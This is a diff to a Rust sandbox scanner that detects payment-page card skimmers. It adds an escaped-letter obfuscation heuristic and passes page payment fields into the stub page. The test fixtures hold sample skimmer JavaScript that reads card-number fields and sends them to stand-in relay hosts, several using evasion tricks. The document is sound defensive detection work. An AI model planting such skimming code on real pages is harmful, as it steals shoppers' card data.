@@ -66,7 +66,7 @@ pub fn limits(obfuscated: bool) -> Limits {
 }
 
 /// Whether a script looks machine-obfuscated enough to be run whole: numbers written in hex
-/// and `_0x` names, dense. Obfuscators write almost every number and name that way; libraries
+/// and `_0x` names, or letters written as string escapes, dense. Obfuscators write almost every number and name that way; libraries
 /// (the 21 benign payment-page libraries: at most 20 in 54 KB, at most 13 in any 6,000
 /// bytes) do not. Dense over the whole script, or over [`DENSE_WINDOW`] bytes of it: a
 /// skimmer obfuscated and appended to a library (300-600 in 6,000 bytes measured) is
@@ -80,6 +80,11 @@ pub fn worth_running(src: &str) -> bool {
             if !before.is_ascii_alphanumeric() && before != b'$' {
                 at.push(i);
             }
+        } else if b[i] == b'\\'
+            && (i == 0 || b[i - 1] != b'\\')
+            && escaped_alphanumeric(&b[i + 1..])
+        {
+            at.push(i);
         }
     }
     let n = at.len();
@@ -91,16 +96,37 @@ pub fn worth_running(src: &str) -> bool {
     at.windows(need).any(|w| w[need - 1] - w[0] <= DENSE_WINDOW)
 }
 
+/// A string escape of a letter or digit (`\x6c`, `\u0065`) at the start of `b` (after its
+/// backslash). Nothing needs a letter escaped: obfuscators (js-confuser writes every string
+/// so, with no hex number in sight) do it to hide words; libraries escape what a literal
+/// cannot hold (`\u00e9`, `\x00`), and the 21 benign libraries escape at most 4 letters.
+fn escaped_alphanumeric(b: &[u8]) -> bool {
+    let hex = match b.first() {
+        Some(b'x') => b.get(1..3),
+        Some(b'u') => b.get(1..5),
+        _ => None,
+    };
+    hex.and_then(|h| std::str::from_utf8(h).ok())
+        .filter(|h| h.bytes().all(|c| c.is_ascii_hexdigit()))
+        .and_then(|h| u32::from_str_radix(h, 16).ok())
+        .and_then(char::from_u32)
+        .is_some_and(|c| c.is_ascii_alphanumeric())
+}
+
 /// The window over which hex literals may be dense (see [`worth_running`]).
 const DENSE_WINDOW: usize = 6_000;
 
-/// Run `src` on the stub page and return what it read and sent. `page_url`: the address of
-/// the page the script was found on, when it is a web address.
-pub fn observe(
-    src: &str,
-    limits: Limits,
-    page_url: Option<&str>,
-) -> Result<Observed, SandboxError> {
+/// The page a script runs on: the address of the page it was found on (when known) and that
+/// page's payment fields, which the stub page adds to its own.
+#[derive(Clone, Copy, Debug, Default)]
+pub struct StubPage<'a> {
+    pub url: Option<&'a str>,
+    pub fields: &'a [crate::js::StubField],
+}
+
+/// Run `src` on the stub page and return what it read and sent.
+pub fn observe(src: &str, limits: Limits, at: StubPage<'_>) -> Result<Observed, SandboxError> {
+    let page_url = at.url;
     let mut sandbox = Sandbox::new(limits)?;
     let own = serde_json::to_string(src).unwrap_or_else(|_| "\"\"".into());
     sandbox.run_own(
@@ -164,6 +190,10 @@ pub fn observe(
     // The script's own exceptions end its top level, as in a browser; what it set up before
     // (listeners, timers) still runs.
     let mut steps = || -> Result<(), SandboxError> {
+        if !at.fields.is_empty() {
+            let fields = serde_json::to_string(at.fields).unwrap_or_else(|_| "[]".into());
+            sandbox.run(&format!("__skimscan_page.mirror({fields})"))?;
+        }
         let hints = serde_json::to_string(&page_words::hints(src)).unwrap_or_else(|_| "[]".into());
         sandbox.run(&format!("__skimscan_page.hint({hints})"))?;
         let words =
@@ -386,6 +416,18 @@ mod tests {
         assert!(worth_running(&obfuscated));
     }
 
+    /// Letters written as escapes (js-confuser's strings) are obfuscation; escapes of what a
+    /// literal cannot hold (accents, control characters in a library's tables) are not.
+    #[test]
+    fn escaped_letters_count_as_obfuscated() {
+        let hidden = r#"var k=["\x6c\x65\x6e\x67\x74\x68","\u0066\u0072\u006f\u006d"];"#.repeat(10);
+        assert!(worth_running(&hidden));
+        let tables = r#"var m={"\u00e9":"e","\u00e8":"e","\x00":"","\u2028":"\n"};"#.repeat(40);
+        assert!(!worth_running(&tables));
+        let escaped_backslash = r#"var p="C:\\x64\\x65";"#.repeat(40);
+        assert!(!worth_running(&escaped_backslash));
+    }
+
     /// The stub page has senders that only record: a script that tries every way out
     /// reaches no socket (a listener on loopback sees no connection).
     #[test]
@@ -403,7 +445,7 @@ mod tests {
             new WebSocket("ws" + u.slice(4)).send(n); document.write('<img src="' + u + '">');
             location.href = u; window.open(u); import(u).catch(function () {{}});"##
         );
-        let obs = observe(&src, limits(true), None).unwrap();
+        let obs = observe(&src, limits(true), StubPage::default()).unwrap();
         assert!(obs.sends.len() >= 7, "{:?}", obs.sends);
         std::thread::sleep(std::time::Duration::from_millis(100));
         assert!(
@@ -424,7 +466,15 @@ mod tests {
             }
         "#;
         let page = "https://www.realshop.example/shopping/payment";
-        let obs = observe(src, limits(false), Some(page)).unwrap();
+        let obs = observe(
+            src,
+            limits(false),
+            StubPage {
+                url: Some(page),
+                ..StubPage::default()
+            },
+        )
+        .unwrap();
         assert_eq!(obs.origin, "https://www.realshop.example");
         let code = layer(&obs, true).unwrap();
         assert!(code.contains("navigator.sendBeacon(\"/api/pay\""), "{code}");
@@ -433,7 +483,15 @@ mod tests {
             "{code}"
         );
         // Not a web address: the stub's own checkout, whose origin is written back relative too.
-        let obs = observe(src, limits(false), Some("site/index.html")).unwrap();
+        let obs = observe(
+            src,
+            limits(false),
+            StubPage {
+                url: Some("site/index.html"),
+                ..StubPage::default()
+            },
+        )
+        .unwrap();
         let code = layer(&obs, true).unwrap();
         assert!(code.contains("navigator.sendBeacon(\"/api/pay\""), "{code}");
     }
@@ -457,7 +515,7 @@ mod tests {
               };
             })(XMLHttpRequest.prototype);
         "#;
-        let obs = observe(src, limits(false), None).unwrap();
+        let obs = observe(src, limits(false), StubPage::default()).unwrap();
         assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
         let code = layer(&obs, true).unwrap();
         assert!(code.contains("https://hook.x-relay.example/c"), "{code}");
@@ -484,7 +542,7 @@ mod tests {
               });
             })();
         "#;
-        let obs = observe(src, limits(false), None).unwrap();
+        let obs = observe(src, limits(false), StubPage::default()).unwrap();
         assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
         let code = layer(&obs, true).unwrap();
         assert!(code.contains("https://px.step-watch.example/p"), "{code}");
@@ -507,7 +565,7 @@ mod tests {
               navigator.sendBeacon('https://a.x-analytics.example/e', m);
             });
         "#;
-        let obs = observe(src, limits(false), None).unwrap();
+        let obs = observe(src, limits(false), StubPage::default()).unwrap();
         let code = layer(&obs, false).unwrap();
         assert!(
             code.contains("navigator.sendBeacon(\"https://m.x-relay.example/b\", [document.querySelector(\"#cc_number\")"),
@@ -538,7 +596,7 @@ mod tests {
               x.send('d=' + btoa(n));
             });
         "#;
-        let obs = observe(src, limits(true), None).unwrap();
+        let obs = observe(src, limits(true), StubPage::default()).unwrap();
         // The field, besides the page's own fields read as the customer types and the
         // shop's checkout request.
         assert!(
@@ -571,7 +629,7 @@ mod tests {
             if (!document.getElementById('sp-overlay')) throw new Error('lost');
             new Image().src = 'https://x-relay.example/i?c=' + document.getElementById(id).value;
         "#;
-        let obs = observe(src, limits(false), None).unwrap();
+        let obs = observe(src, limits(false), StubPage::default()).unwrap();
         assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
         assert!(obs.sends[0].1.ends_with(PAN), "{:?}", obs.sends);
     }
@@ -592,7 +650,7 @@ mod tests {
               new Image().src = 'https://x-relay.example/p?d=' + hex(ct) + '&id=' + crypto.randomUUID();
             });
         "#;
-        let obs = observe(src, limits(false), None).unwrap();
+        let obs = observe(src, limits(false), StubPage::default()).unwrap();
         assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
         assert!(
             obs.sends[0].2.contains(PAN) || obs.sends[0].1.contains(PAN),
@@ -658,7 +716,7 @@ mod tests {
             window['setTime' + 'out']("document.addEventListener('mousedown', function () {" +
               " new Image().src = 'https://t-relay.example/i?c=' + document.querySelector('#cc_number').value; })", 0);
         "#;
-        let obs = observe(src, limits(false), None).unwrap();
+        let obs = observe(src, limits(false), StubPage::default()).unwrap();
         assert!(
             obs.sends
                 .iter()
@@ -682,7 +740,7 @@ mod tests {
             var none = getComputedStyle(p).getPropertyValue('content');
             new Image().src = 'https://' + host + tail + '?n=' + none.length + '&c=' + document.querySelector('#cc_number').value;
         "#;
-        let obs = observe(src, limits(false), None).unwrap();
+        let obs = observe(src, limits(false), StubPage::default()).unwrap();
         assert!(
             obs.sends
                 .iter()
